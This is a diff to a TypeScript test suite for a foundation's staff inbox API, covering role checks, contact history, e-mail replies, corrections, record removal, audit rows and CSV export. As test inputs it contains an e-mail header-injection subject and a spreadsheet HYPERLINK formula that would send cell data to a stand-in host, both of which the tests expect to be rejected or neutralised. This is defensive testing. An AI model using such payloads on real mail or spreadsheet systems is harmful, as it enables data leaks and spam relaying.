@@ -14,6 +14,9 @@ const identity = createTestIdentity();
 const staff = createTestStaffDirectory();
 staff.seat({ username: 'ana@fundacion.org' });
 const member = staffToken(identity, { email: 'ana@fundacion.org' });
+// A member of the team without Comunidad (PQRSF only).
+staff.seat({ username: 'pedro@fundacion.org', roles: ['atencion'] });
+const otherRole = staffToken(identity, { email: 'pedro@fundacion.org' });
 const visitor = identity.token({ email: 'visitante@correo.co' });
 
 const BASE = '/api/community/staff/inbox';
@@ -87,8 +90,8 @@ async function walk(
   return { ids, pages, total };
 }
 
-async function exportCsv(kind: string, query = '') {
-  const res = await call('GET', `${BASE}/${kind}/exportar${query ? `?${query}` : ''}`);
+async function exportCsv(kind: string, filter: Record<string, unknown> = {}) {
+  const res = await call('POST', `${BASE}/${kind}/exportar`, member, filter);
   expect(res.statusCode).toBe(200);
   const bytes = res.rawPayload;
   const text = bytes.toString('utf8');
@@ -100,16 +103,20 @@ describe('who gets in', () => {
   for (const kind of Object.keys(communityInboxKinds)) {
     routes.push(
       ['POST', `${BASE}/${kind}/lista`],
-      ['GET', `${BASE}/${kind}/exportar`],
+      ['POST', `${BASE}/${kind}/exportar`],
       ['GET', `${BASE}/${kind}/1`],
-      ['PUT', `${BASE}/${kind}/1/contacto`],
-      ['DELETE', `${BASE}/${kind}/1/contacto`],
+      ['POST', `${BASE}/${kind}/1/contactos`],
+      ['POST', `${BASE}/${kind}/1/respuesta/vista-previa`],
+      ['POST', `${BASE}/${kind}/1/respuesta`],
+      ['PUT', `${BASE}/${kind}/1`],
+      ['POST', `${BASE}/${kind}/1/eliminar`],
     );
   }
 
   it.each(routes)('%s %s: 401 without a token, 403 with a visitor’s, and no audit row', async (method, url) => {
     const before = (await readAudit(api.db, { limit: 1000 })).length;
-    const body = method === 'PUT' ? { note: 'x' } : method === 'POST' ? { q: 'ana' } : undefined;
+    const body =
+      method === 'PUT' ? { email: 'x@y.co' } : method === 'POST' ? { q: 'ana', channel: 'telefono', reason: 'duplicado' } : undefined;
     const anonymous = await call(method, url, null, body);
     expect(anonymous.statusCode).toBe(401);
     const stranger = await call(method, url, visitor, body);
@@ -117,6 +124,27 @@ describe('who gets in', () => {
     expect(stranger.json()).toMatchObject({ error: 'forbidden' });
     expect(stranger.body).not.toContain('Pérez');
     expect((await readAudit(api.db, { limit: 1000 })).length).toBe(before);
+  });
+
+  it('refuses a team member without the Comunidad role on every act of the case file (403), and changes nothing', async () => {
+    const [id] = await addVolunteers([{ volunteer_name: 'Sin', email: 'sin.rol@correo.co' }]);
+    const before = (await readAudit(api.db, { limit: 1000 })).length;
+    const acts: Array<[Method, string, unknown]> = [
+      ['GET', `${BASE}/voluntarios/${id}`, undefined],
+      ['POST', `${BASE}/voluntarios/${id}/contactos`, { channel: 'telefono' }],
+      ['POST', `${BASE}/voluntarios/${id}/respuesta`, { subject: 'Hola', body: 'Hola' }],
+      ['PUT', `${BASE}/voluntarios/${id}`, { ...volunteerRow(), email: 'otro@example.com' }],
+      ['POST', `${BASE}/voluntarios/${id}/eliminar`, { reason: 'duplicado' }],
+      ['POST', `${BASE}/voluntarios/exportar`, {}],
+    ];
+    for (const [method, url, body] of acts) {
+      const res = await call(method, url, otherRole, body);
+      expect([method, url, res.statusCode]).toEqual([method, url, 403]);
+    }
+    expect((await readAudit(api.db, { limit: 1000 })).length).toBe(before);
+    const row = await api.db.selectFrom('community.volunteers').select('email').where('id', '=', id!).executeTakeFirstOrThrow();
+    expect(row.email).toBe('sin.rol@correo.co');
+    expect((await api.mailer.list(500)).some((m) => m.to === 'sin.rol@correo.co')).toBe(false);
   });
 
   it('answers a member, with an unknown kind refused by the schema', async () => {
@@ -195,7 +223,7 @@ describe('lists', () => {
       name: 'María José Núñez Güiza',
       email: 'mjnunez@correo.co',
       extra: 'Cédula de ciudadanía 1.098.765',
-      contacted: null,
+      contact: { contacted: false, lastAt: null, count: 0 },
     });
   });
 
@@ -274,7 +302,7 @@ describe('lists', () => {
   });
 });
 
-describe('a record and its contact mark', () => {
+describe('a record and its case file', () => {
   it('shows every field as filed', async () => {
     const [id] = await addVolunteers([{ volunteer_name: 'Lucía', institution: 'SENA', created_at: '2026-03-02T19:32:10Z' }]);
     const res = await call('GET', `${BASE}/voluntarios/${id}`);
@@ -284,60 +312,184 @@ describe('a record and its contact mark', () => {
       id: String(id),
       createdAt: '2026-03-02T19:32:10.000Z',
       record: { ...volunteerRow({ volunteer_name: 'Lucía', institution: 'SENA' }) },
-      contacted: null,
+      contact: { contacted: false, lastAt: null, count: 0 },
+      history: [],
+      actions: {
+        contact: { allowed: true, reason: null },
+        reply: { allowed: true, reason: null },
+        correct: { allowed: true, reason: null },
+        remove: { allowed: true, reason: null },
+      },
     });
     expect((await call('GET', `${BASE}/voluntarios/999999`)).statusCode).toBe(404);
     expect((await call('GET', `${BASE}/aliados/0`)).statusCode).toBe(400);
   });
 
-  it('marks contacted with a note (who, when), lists it as contacted, undoes it, and audits both without the note', async () => {
+  it('keeps every contact (channel, note, who, when), newest first, derives "Contactado", and audits each without the note', async () => {
     const [id] = await addVolunteers([{ volunteer_name: 'Tomás', email: 'tomas@example.com' }]);
-    const note = 'Llamé a Tomás al 300 123; vendrá el sábado.';
-    const before = Date.now();
-    const marked = await call('PUT', `${BASE}/voluntarios/${id}/contacto`, member, { note });
-    expect(marked.statusCode).toBe(200);
-    const mark = (marked.json() as InboxRecordResponse).contacted;
-    expect(mark).toMatchObject({ by: 'ana@fundacion.org', note });
-    expect(Date.parse(mark!.at)).toBeGreaterThanOrEqual(before - 1000);
+    const first = await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, {
+      channel: 'telefono',
+      note: 'Llamé a Tomás; no contestó.',
+    });
+    expect(first.statusCode).toBe(200);
+    expect((first.json() as InboxRecordResponse).contact).toMatchObject({ contacted: true, count: 1 });
+    const second = await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, {
+      channel: 'whatsapp',
+      note: 'Le escribí; vendrá el sábado.',
+    });
+    const record = second.json() as InboxRecordResponse;
+    expect(record.contact).toMatchObject({ contacted: true, count: 2 });
+    expect(record.history.map((h) => [h.event, h.channel, h.note, h.by])).toEqual([
+      ['contacto', 'whatsapp', 'Le escribí; vendrá el sábado.', 'ana@fundacion.org'],
+      ['contacto', 'telefono', 'Llamé a Tomás; no contestó.', 'ana@fundacion.org'],
+    ]);
+    // Read again: both still there, never overwritten.
+    const again = (await call('GET', `${BASE}/voluntarios/${id}`)).json() as InboxRecordResponse;
+    expect(again.history).toHaveLength(2);
 
-    const contacted = await list('voluntarios', { estado: 'contactados' });
+    const contacted = await list('voluntarios', { estado: 'contactados', q: 'tomas' });
     expect(contacted.items.map((i) => Number(i.id))).toEqual([id]);
-    expect(contacted.items[0]!.contacted).toMatchObject({ by: 'ana@fundacion.org' });
-    const pending = await list('voluntarios', { estado: 'pendientes', q: 'tomas' });
-    expect(pending.items).toEqual([]);
+    expect(contacted.items[0]!.contact).toMatchObject({ contacted: true, count: 2 });
+    expect((await list('voluntarios', { estado: 'pendientes', q: 'tomas' })).items).toEqual([]);
 
-    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
-    expect(audit).toMatchObject({
-      actorEmail: 'ana@fundacion.org',
-      action: 'community.inbox.contact',
-      detail: { kind: 'voluntarios', reemplaza: false },
+    const trail = await readAudit(api.db, {
+      limit: 10,
+      entity: 'volunteers',
+      entityId: String(id),
+      actionPrefix: 'community.inbox.contact',
     });
-    expect(JSON.stringify(audit)).not.toContain('Tomás');
-
-    // Again: the mark's note is replaced, and the audit says so.
-    const again = await call('PUT', `${BASE}/voluntarios/${id}/contacto`, member, { note: '' });
-    expect((again.json() as InboxRecordResponse).contacted).toMatchObject({ note: '' });
-    expect((await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) }))[0]!.detail).toMatchObject({
-      reemplaza: true,
-    });
-
-    const undone = await call('DELETE', `${BASE}/voluntarios/${id}/contacto`);
-    expect(undone.statusCode).toBe(200);
-    expect((undone.json() as InboxRecordResponse).contacted).toBeNull();
-    const trail = await readAudit(api.db, { limit: 10, entity: 'volunteers', entityId: String(id) });
-    expect(trail.map((a) => a.action)).toEqual(['community.inbox.contact.undo', 'community.inbox.contact', 'community.inbox.contact']);
-    // Undoing twice changes nothing and records nothing.
-    await call('DELETE', `${BASE}/voluntarios/${id}/contacto`);
-    expect(await readAudit(api.db, { limit: 10, entity: 'volunteers', entityId: String(id) })).toHaveLength(3);
+    expect(trail.map((a) => [a.action, a.actorEmail, a.detail])).toEqual([
+      ['community.inbox.contact', 'ana@fundacion.org', { kind: 'voluntarios', canal: 'whatsapp', conNota: true }],
+      ['community.inbox.contact', 'ana@fundacion.org', { kind: 'voluntarios', canal: 'telefono', conNota: true }],
+    ]);
+    expect(JSON.stringify(trail)).not.toContain('Tomás');
   });
 
-  it('refuses a mark for a record that does not exist, or a note too long, and records nothing', async () => {
+  it('refuses a contact without a channel, for a record that does not exist, or to a subscriber, and records nothing', async () => {
     const before = (await readAudit(api.db, { limit: 1000 })).length;
-    expect((await call('PUT', `${BASE}/software/424242/contacto`, member, { note: 'x' })).statusCode).toBe(404);
-    const long = await call('PUT', `${BASE}/voluntarios/1/contacto`, member, { note: 'x'.repeat(2001) });
-    expect(long.statusCode).toBe(400);
+    const noChannel = await call('POST', `${BASE}/voluntarios/1/contactos`, member, { note: 'x' });
+    expect(noChannel.statusCode).toBe(400);
+    expect(noChannel.json()).toMatchObject({ fields: { channel: expect.stringMatching(/^Elige por dónde/) } });
+    expect((await call('POST', `${BASE}/software/424242/contactos`, member, { channel: 'correo' })).statusCode).toBe(404);
+    const long = await call('POST', `${BASE}/voluntarios/1/contactos`, member, { channel: 'correo', note: 'x'.repeat(2001) });
     expect(long.json()).toMatchObject({ fields: { note: 'Escribe como máximo 2000 caracteres en la nota.' } });
-    expect((await readAudit(api.db, { limit: 1000 })).length).toBe(before);
+    const [sub] = await api.db
+      .insertInto('community.newsletter_subscriptions')
+      .values({ email: 'lector@example.com' })
+      .returning('id')
+      .execute();
+    const subscriber = await call('POST', `${BASE}/boletin/${sub!.id}/contactos`, member, { channel: 'correo' });
+    expect(subscriber.statusCode).toBe(409);
+    const read = (await call('GET', `${BASE}/boletin/${sub!.id}`)).json() as InboxRecordResponse;
+    expect(read.contact).toBeNull();
+    expect(read.actions.contact.allowed).toBe(false);
+    // The subscriber's record was read (audited); no contact was recorded.
+    const all = await readAudit(api.db, { limit: 1000 });
+    const added = all.slice(0, all.length - before);
+    expect(added.map((a) => a.action)).toEqual(['community.inbox.read']);
+  });
+
+  it('previews a reply, e-mails it in the foundation template, keeps it in the history as outgoing, and audits it without its text', async () => {
+    const [id] = await addVolunteers([{ volunteer_name: 'Julia', email: 'julia.respuesta@example.com' }]);
+    const reply = { subject: 'Tu voluntariado', body: 'Hola de nuevo.\nTe esperamos el sábado a las 9.' };
+    const preview = await call('POST', `${BASE}/voluntarios/${id}/respuesta/vista-previa`, member, reply);
+    expect(preview.statusCode).toBe(200);
+    const shown = preview.json() as { subject: string; text: string };
+    expect(shown.subject).toMatch(/^Tu voluntariado - /);
+    expect(shown.text).toContain('Te esperamos el sábado a las 9.');
+    expect(shown.text).toContain(`(voluntariado, n.º ${id})`);
+    expect(shown.text).toMatch(/Con cariño,/);
+    expect((await api.mailer.list(500)).some((m) => m.to === 'julia.respuesta@example.com')).toBe(false);
+
+    const sent = await call('POST', `${BASE}/voluntarios/${id}/respuesta`, member, reply);
+    expect(sent.statusCode).toBe(200);
+    const record = sent.json() as InboxRecordResponse;
+    expect(record.history[0]).toMatchObject({ event: 'respuesta', channel: 'correo', subject: reply.subject, body: reply.body.trim() });
+    expect(record.contact).toMatchObject({ contacted: true, count: 1 });
+    const mails = (await api.mailer.list(500)).filter((m) => m.to === 'julia.respuesta@example.com');
+    expect(mails).toHaveLength(1);
+    expect(mails[0]!.subject).toBe(shown.subject);
+    expect(mails[0]!.text).toBe(shown.text);
+    expect(mails[0]!.html).toContain('Te esperamos el sábado a las 9.');
+    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
+    expect(audit).toMatchObject({ action: 'community.inbox.reply', actorEmail: 'ana@fundacion.org', detail: { kind: 'voluntarios' } });
+    expect(JSON.stringify(audit)).not.toMatch(/sábado|Tu voluntariado|julia/);
+
+    // A subject on two lines (a header injection) is refused; nothing more is sent.
+    const injected = await call('POST', `${BASE}/voluntarios/${id}/respuesta`, member, { subject: 'Hola\r\nBcc: x@mal.co', body: 'x' });
+    expect(injected.statusCode).toBe(400);
+    expect(injected.json()).toMatchObject({ fields: { subject: 'El asunto va en una sola línea.' } });
+    expect((await api.mailer.list(500)).filter((m) => m.to === 'julia.respuesta@example.com')).toHaveLength(1);
+  });
+
+  it('corrects fields with the form’s own rules, says which fields changed (never the values), and audits it', async () => {
+    const [id] = await addVolunteers([{ volunteer_name: 'Pablo', email: 'pablo@example.com', phone_number: '3001112233' }]);
+    const current = ((await call('GET', `${BASE}/voluntarios/${id}`)).json() as InboxRecordResponse).record;
+    const bad = await call('PUT', `${BASE}/voluntarios/${id}`, member, { ...current, email: 'no-es-correo', age: 7 });
+    expect(bad.statusCode).toBe(400);
+    expect(bad.json()).toMatchObject({
+      fields: { email: 'Ingresa un correo electrónico válido', age: 'La edad debe ser un número entre 14 y 99' },
+    });
+    const badDocument = await call('PUT', `${BASE}/voluntarios/${id}`, member, {
+      ...current,
+      id_type: 'Cédula de ciudadanía',
+      id_number: 'ABC',
+    });
+    expect(badDocument.statusCode).toBe(400);
+    expect(badDocument.json()).toMatchObject({ fields: { id_number: expect.any(String) } });
+    const unchanged = await call('PUT', `${BASE}/voluntarios/${id}`, member, current);
+    expect(unchanged.statusCode).toBe(400);
+    expect(unchanged.json()).toMatchObject({ message: 'No cambiaste ningún dato.' });
+
+    const ok = await call('PUT', `${BASE}/voluntarios/${id}`, member, {
+      ...current,
+      email: 'pablo.nuevo@example.com',
+      phone_number: '3109998877',
+    });
+    expect(ok.statusCode).toBe(200);
+    const record = ok.json() as InboxRecordResponse;
+    expect(record.record).toMatchObject({ email: 'pablo.nuevo@example.com', phone_number: '3109998877' });
+    expect(record.history[0]).toMatchObject({ event: 'correccion', fields: ['Teléfono', 'Correo electrónico'], note: null, body: null });
+    expect(JSON.stringify(record.history)).not.toContain('3001112233');
+    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
+    expect(audit).toMatchObject({ action: 'community.inbox.correct', detail: { kind: 'voluntarios', campos: ['phone_number', 'email'] } });
+    expect(JSON.stringify(audit)).not.toMatch(/pablo|3109998877|3001112233/);
+    // The search finds the new address: the generated column followed.
+    expect((await list('voluntarios', { q: 'pablo.nuevo' })).items.map((i) => Number(i.id))).toEqual([id]);
+  });
+
+  it('removes a record with a reason: its personal data and history are deleted, a tombstone and an audit row remain', async () => {
+    const [id] = await addVolunteers([{ volunteer_name: 'Rocío', email: 'rocio.borrar@example.com' }]);
+    await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, { channel: 'telefono', note: 'Rocío pidió que la borráramos.' });
+    const noReason = await call('POST', `${BASE}/voluntarios/${id}/eliminar`, member, {});
+    expect(noReason.statusCode).toBe(400);
+    expect(noReason.json()).toMatchObject({ fields: { reason: 'Elige el motivo de la eliminación.' } });
+
+    const removed = await call('POST', `${BASE}/voluntarios/${id}/eliminar`, member, { reason: 'solicitud' });
+    expect(removed.statusCode).toBe(200);
+    expect(removed.json()).toMatchObject({ kind: 'voluntarios', id: String(id), by: 'ana@fundacion.org', reason: 'solicitud' });
+    expect(await api.db.selectFrom('community.volunteers').select('id').where('id', '=', id!).execute()).toEqual([]);
+    const left = await api.db
+      .selectFrom('community.record_history')
+      .selectAll()
+      .where('kind', '=', 'volunteers')
+      .where('record_id', '=', id!)
+      .execute();
+    expect(left.map((h) => [h.event, h.reason, h.note, h.subject, h.body, h.actor_email])).toEqual([
+      ['eliminacion', 'solicitud', null, null, null, 'ana@fundacion.org'],
+    ]);
+    const gone = await call('GET', `${BASE}/voluntarios/${id}`);
+    expect(gone.statusCode).toBe(410);
+    expect(gone.json()).toMatchObject({
+      message: expect.stringMatching(/^Este registro se eliminó el .*; sus datos personales se borraron\.$/),
+    });
+    expect(JSON.stringify(await list('voluntarios', { q: 'rocio' }))).not.toContain('rocio.borrar');
+    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
+    expect(audit).toMatchObject({ action: 'community.inbox.remove', detail: { kind: 'voluntarios', motivo: 'solicitud' } });
+    expect(JSON.stringify(audit)).not.toMatch(/roc[ií]o/i);
+    // Nothing left to remove, correct or contact.
+    expect((await call('POST', `${BASE}/voluntarios/${id}/eliminar`, member, { reason: 'duplicado' })).statusCode).toBe(404);
+    expect((await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, { channel: 'correo' })).statusCode).toBe(404);
   });
 });
 
@@ -377,9 +529,8 @@ describe('CSV export', () => {
       'Por qué quiere ser voluntario',
       'Actividades que le gustaría realizar',
       'Contactado',
-      'Fecha de contacto',
-      'Contactado por',
-      'Nota de contacto',
+      'Último contacto',
+      'Contactos y respuestas',
     ]);
     const byId = new Map(rows.map((r) => [Number(r[0]), r]));
     // 04:30 UTC on 2 March is 23:30 on 1 March in Bogotá.
@@ -399,41 +550,106 @@ describe('CSV export', () => {
       'Tutorías',
       'No',
       '',
-      '',
-      '',
+      '0',
     ]);
     expect(byId.get(formula!)?.slice(2, 4)).toEqual([`'=HYPERLINK("http://mal.example/?x="&A1,"Ver")`, `'@SUMA(1;2)`]);
     // Every field quoted, every record on CRLF.
     expect(bytes.toString('utf8').split('\r\n')[1]).toMatch(/^"\d+";"\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}";"/);
   });
 
-  it('shows the contact mark and the workshop by name', async () => {
-    const [row] = await api.db
+  it('shows the contact state and the workshop by name, with no column that is always empty in a workshop’s file', async () => {
+    const [vale, arte] = await api.db
       .insertInto('community.workshop_inquiries')
-      .values({
-        workshop: 'vale-ser',
-        first_name: 'Óscar',
-        last_name: 'Muñoz',
-        phone_number: '3011112222',
-        email: 'oscar@example.com',
-        comments_query: 'Hola',
-      })
+      .values([
+        {
+          workshop: 'vale-ser',
+          first_name: 'Óscar',
+          last_name: 'Muñoz',
+          phone_number: '3011112222',
+          email: 'oscar@example.com',
+          occupation: 'Docente',
+          empowerment_course: 'No',
+          referral_source: 'Instagram',
+          comments_query: 'Hola',
+        },
+        {
+          workshop: 'arte-de-amarte',
+          full_name: 'Marta Lucía Ríos',
+          phone_number: '3201234567',
+          email: 'marta.rios@example.com',
+          guest_type: 'Soy docente y me interesa el taller para mis estudiantes',
+          comments_query: '¿Cuándo?',
+        },
+      ])
       .returning('id')
       .execute();
-    await call('PUT', `${BASE}/talleres/${row!.id}/contacto`, member, { note: 'Le escribí' });
-    const { records } = await exportCsv('talleres', 'estado=contactados&taller=vale-ser');
+    await call('POST', `${BASE}/talleres/${vale!.id}/contactos`, member, { channel: 'correo', note: 'Le escribí' });
+    const { records } = await exportCsv('talleres', { estado: 'contactados', taller: 'vale-ser' });
     const [header, ...lines] = records;
-    expect(lines.map((l) => Number(l[0]))).toEqual([row!.id]);
+    expect(lines.map((l) => Number(l[0]))).toEqual([vale!.id]);
+    expect(header).toEqual([
+      'Número',
+      'Fecha de registro',
+      'Taller',
+      'Nombre',
+      'Teléfono',
+      'Correo electrónico',
+      'Ocupación',
+      '¿Hizo un curso de empoderamiento?',
+      'Cómo se enteró',
+      'Consulta',
+      'Contactado',
+      'Último contacto',
+      'Contactos y respuestas',
+    ]);
     const cell = (name: string) => lines[0]![header!.indexOf(name)];
     expect(cell('Taller')).toBe('Vale Ser');
+    expect(cell('Nombre')).toBe('Óscar Muñoz');
     expect(cell('Contactado')).toBe('Sí');
-    expect(cell('Fecha de contacto')).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
-    expect(cell('Contactado por')).toBe('ana@fundacion.org');
-    expect(cell('Nota de contacto')).toBe('Le escribí');
+    expect(cell('Último contacto')).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
+    expect(cell('Contactos y respuestas')).toBe('1');
+
+    const arteFile = await exportCsv('talleres', { taller: 'arte-de-amarte', q: 'marta rios' });
+    const [arteHeader, ...arteLines] = arteFile.records;
+    expect(arteLines.map((l) => Number(l[0]))).toEqual([arte!.id]);
+    expect(arteHeader).toEqual([
+      'Número',
+      'Fecha de registro',
+      'Taller',
+      'Nombre',
+      'Teléfono',
+      'Correo electrónico',
+      'Interés en el taller',
+      'Consulta',
+      'Contactado',
+      'Último contacto',
+      'Contactos y respuestas',
+    ]);
+    // No column is empty on every line.
+    for (const file of [records, arteFile.records]) {
+      const [h, ...rows] = file;
+      const empty = h!.filter((_, i) => rows.every((r) => r[i] === '') && !['Último contacto'].includes(h![i]!));
+      expect(empty).toEqual([]);
+    }
+  });
+
+  it('follows the search: only the rows the list shows, and the audit says a search was applied but not its words', async () => {
+    await addVolunteers([
+      { volunteer_name: 'Candelaria', email: 'candelaria.busca@example.com' },
+      { volunteer_name: 'Otro', email: 'otro.busca@example.com' },
+    ]);
+    const shown = await list('voluntarios', { q: 'candelaria' });
+    const { records } = await exportCsv('voluntarios', { q: 'candelaria' });
+    const [header, ...rows] = records;
+    expect(rows.map((r) => r[0])).toEqual(shown.items.map((i) => i.id));
+    expect(rows.map((r) => r[header!.indexOf('Correo electrónico')])).toEqual(['candelaria.busca@example.com']);
+    const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
+    expect(audit!.detail).toMatchObject({ kind: 'voluntarios', filtro: { estado: 'todos', busqueda: true }, filas: 1 });
+    expect(JSON.stringify(audit)).not.toMatch(/candelaria/i);
   });
 
   it('writes an audit row with kind, filter and the file’s row count, and none of the rows’ data', async () => {
-    const { records } = await exportCsv('voluntarios', 'estado=pendientes');
+    const { records } = await exportCsv('voluntarios', { estado: 'pendientes' });
     const pending = (await list('voluntarios', { estado: 'pendientes' })).total;
     expect(records.length - 1).toBe(pending);
     const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
@@ -457,16 +673,7 @@ describe('CSV export', () => {
     const { records } = await exportCsv('boletin');
     const [header, ...all] = records;
     const rows = all.filter((r) => r[2]!.endsWith('@masivo.co'));
-    expect(header).toEqual([
-      'Número',
-      'Fecha de registro',
-      'Correo electrónico',
-      'Estado en el boletín',
-      'Contactado',
-      'Fecha de contacto',
-      'Contactado por',
-      'Nota de contacto',
-    ]);
+    expect(header).toEqual(['Número', 'Fecha de registro', 'Correo electrónico', 'Estado en el boletín']);
     expect(rows).toHaveLength(2500);
     expect(new Set(rows.map((r) => r[2])).size).toBe(2500);
     const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
@@ -474,7 +681,7 @@ describe('CSV export', () => {
   });
 
   it('exports only a header when nothing matches, and audits the zero', async () => {
-    const { records } = await exportCsv('aliados', 'estado=contactados');
+    const { records } = await exportCsv('aliados', { estado: 'contactados' });
     expect(records).toHaveLength(1);
     const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
     expect(audit!.detail).toMatchObject({ kind: 'aliados', filas: 0 });
